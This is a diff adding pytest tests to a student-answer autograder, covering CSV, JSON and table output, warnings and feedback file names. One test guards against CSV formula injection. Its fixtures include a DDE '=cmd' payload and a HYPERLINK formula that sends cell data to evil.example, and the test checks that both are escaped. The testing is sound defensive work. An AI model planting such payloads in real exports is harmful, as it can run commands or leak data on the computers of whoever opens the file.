@@ -226,3 +226,128 @@ def test_the_class_table_keeps_each_file_name_and_score_on_one_line(runner, tmp_
     with_id = subs / "answers.yaml"
     with_id.write_text('student: "7"\n' + with_id.read_text(encoding="utf-8"), encoding="utf-8")
     assert "student" in table()[2]
+
+
+# -- the gradebook as a TA opens it ---------------------------------------------------------------
+def test_no_cell_of_student_text_is_a_formula_in_a_spreadsheet(runner, tmp_path, monkeypatch):
+    """OWASP "CSV injection": a cell starting with = + - @ tab or CR is text (a leading '), in the
+    student, file and error columns; the numbers stay numbers."""
+    monkeypatch.chdir(tmp_path)
+    folder = Path("=cmd|' calc'!A0")
+    folder.mkdir()
+    ids = ["=HYPERLINK('http://evil.example/?'&A1,'click')", "+1+2", "@SUM(1+1)", "-2+3", "\\tTAB"]
+    for k, sid in enumerate(ids):
+        (folder / f"s{k}.yaml").write_text(RIGHT.format(sid=sid), encoding="utf-8")
+    (folder / "z.yaml").write_text(BROKEN, encoding="utf-8")
+    rows = _rows(runner.invoke(app, ["grade", str(folder), "--format", "csv"]).stdout)
+    students = [r["student"] for r in rows[1:-1]]
+    assert students == ["'" + sid.replace("\\t", "\t") for sid in ids]     # YAML's \t is a tab
+    for row in rows[1:]:
+        assert row["file"].startswith("'=cmd"), row["file"]
+    assert rows[-1]["error"].startswith("'=cmd") and "never closed" in rows[-1]["error"]
+    for row in rows:
+        for key in [c for c in row if c.count("/") == 2] + ["score", "max_score", "percentage"]:
+            assert row[key] == "" or float(row[key]) >= 0, (key, row[key])   # a number, not "'1"
+
+
+def test_each_row_is_marked_out_of_what_the_student_answered_as_in_the_json(runner, tmp_path):
+    """A student who answered one problem of three: the CSV's max_score and percentage are the JSON's
+    max_score and the terminal's percentage, not the whole class's columns."""
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    (subs / "all.yaml").write_text((EXAMPLES / "rnn.yaml").read_text(encoding="utf-8"), encoding="utf-8")
+    (subs / "one.yaml").write_text(RIGHT.format(sid="7"), encoding="utf-8")
+    rows = _rows(runner.invoke(app, ["grade", str(subs), "--format", "csv"]).stdout)
+    docs = json.loads(runner.invoke(app, ["grade", str(subs), "--format", "json"]).stdout)
+    table = runner.invoke(app, ["grade", str(subs)], env={"COLUMNS": "160"}).output
+    possible = rows[0]
+    assert float(possible["max_score"]) == sum(float(possible[c]) for c in possible if c.count("/") == 2)
+    for row, doc in zip(rows[1:], docs):
+        assert float(row["max_score"]) == doc["max_score"]
+        checked = doc["max_score"] - doc["awaiting_marker"]
+        assert float(row["percentage"]) == pytest.approx(round(100 * doc["score"] / checked, 2))
+        assert f"{float(row['percentage']):.0f}%" in table
+    assert rows[2]["max_score"] == "3" and rows[2]["percentage"] == "33.33"
+
+
+def test_quiet_reports_of_a_class_say_whose_they_are(runner, klass):
+    out = runner.invoke(app, ["grade", str(klass), "-q"], env={"COLUMNS": "300"}).output
+    blocks = out.split("\n\n")
+    heads = [line for line in out.splitlines() if line.endswith((".yaml", ".yml")) or " — student " in line]
+    assert heads == [f"{klass / 'a.yaml'} — student 1", str(klass / "b.yaml"),
+                     f"{klass / 'late' / 'd.yml'} — student 4"]
+    rnn = next(b for b in blocks if b.startswith(str(klass / "b.yaml")))
+    assert "To fix (" in rnn   # the block under the name is that file's
+
+
+def test_a_readable_file_that_cannot_be_graded_keeps_its_student(runner, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    subs = Path("subs")
+    subs.mkdir()
+    (subs / "unknown.yaml").write_text('set: backprop\nstudent: "unk"\nanswers:\n  q9:\n    a: 1\n', encoding="utf-8")
+    (subs / "good.yaml").write_text(RIGHT.format(sid="1"), encoding="utf-8")
+    rows = _rows(runner.invoke(app, ["grade", str(subs), "--format", "csv"]).stdout)
+    assert rows[2]["student"] == "unk" and "no problem 'q9'" in rows[2]["error"]
+    docs = json.loads(runner.invoke(app, ["grade", str(subs), "--format", "json"]).stdout)
+    assert docs[1]["student"] == "unk" and "error" in docs[1]
+    out = runner.invoke(app, ["grade", str(subs), "--feedback-dir", str(tmp_path / "fb")],
+                        env={"COLUMNS": "120"}).output
+    row = next(line for line in out.splitlines() if "unknown.yaml" in line and "│" in line)
+    assert "│ unk " in row and "line 4:3: backprop has no problem 'q9'" in out
+    assert sorted(p.name for p in (tmp_path / "fb").iterdir()) == ["1.md", "unk.md"]
+
+
+def test_a_glob_or_folder_with_nothing_among_others_is_a_warning_not_a_stop(runner, klass, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    Path("late-work").mkdir()
+    result = runner.invoke(app, ["grade", "nomatch*.yaml", "late-work", str(klass / "a.yaml"), "--format", "csv"])
+    assert result.exit_code == 0, result.output     # a.yaml is right; nothing else was named
+    rows = _rows(result.stdout)
+    assert [r["student"] for r in rows] == ["Points Possible", "1"]
+    said = " ".join(result.stderr.split())
+    assert "warning: nomatch*.yaml: no file matches this pattern" in said
+    assert "warning: late-work: no *.yaml answers file in this folder" in said
+    alone = runner.invoke(app, ["grade", "late-work"])
+    assert alone.exit_code == 2 and "no *.yaml answers file" in alone.output
+    both = runner.invoke(app, ["grade", "late-work", "nomatch*.yaml"])
+    assert both.exit_code == 2 and "no answers file in any of these" in both.output
+
+
+def test_long_student_ids_fold_in_the_class_table(runner, tmp_path, monkeypatch):
+    """Two long ids stay whole and tell the rows apart; the table stays inside 80 columns beside a
+    file name of 23 characters (rich once narrowed, then restored, the file column and cropped it)."""
+    monkeypatch.chdir(tmp_path)
+    subs = Path("subs")
+    subs.mkdir()
+    ids = [f"student-with-a-rather-long-identifier-{k}@university.example.edu" for k in (1, 2)]
+    for k, sid in enumerate(ids):
+        (subs / f"s{k}.yaml").write_text(RIGHT.format(sid=sid), encoding="utf-8")
+    (subs / "rnn-gradients.yaml").write_text((EXAMPLES / "rnn-gradients.yaml").read_text(encoding="utf-8"),
+                                             encoding="utf-8")
+    out = runner.invoke(app, ["grade", str(subs)], env={"COLUMNS": "80"}).output
+    lines = out.splitlines()[max(k for k, line in enumerate(out.splitlines()) if line.startswith("3 files")) + 1:]
+    assert lines[0].endswith("┓") and lines[-1].endswith("┘") and all(len(line) <= 80 for line in lines)
+    cells = [line.split("│")[2].strip() for line in lines if line.startswith("│")]
+    assert "…" not in out and "".join(cells) == "".join(ids)
+    assert any("subs/rnn-gradients.yaml │" in line and re.search(r"\d+ / \d+ │", line) for line in lines)
+
+
+def test_two_files_of_one_student_are_named_once_and_their_feedback_names_do_not_depend_on_order(
+        runner, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    Path("a").mkdir()
+    Path("b").mkdir()
+    first, late = Path("a", "s42.yaml"), Path("b", "s42-late.yaml")
+    first.write_text(RIGHT.format(sid="42"), encoding="utf-8")
+    late.write_text(RIGHT.format(sid="42").replace("more_expressive: 2", "more_expressive: 1"), encoding="utf-8")
+    reports = []
+    for order in ((first, late), (late, first)):
+        folder = tmp_path / f"fb{len(reports)}"
+        result = runner.invoke(app, ["grade", *map(str, order), "--feedback-dir", str(folder)],
+                               env={"COLUMNS": "80"})
+        said = " ".join(result.stderr.split())       # wrapped between words at 80 columns
+        assert said.count("warning:") == 1, said
+        assert f"warning: student 42 is named by 2 files, {first} and {late};" in said
+        reports.append({p.name: p.read_text(encoding="utf-8") for p in folder.iterdir()})
+    assert reports[0] == reports[1] and sorted(reports[0]) == ["42-2.md", "42.md"]
+    assert str(first) in reports[0]["42.md"]          # the first by path is 42.md
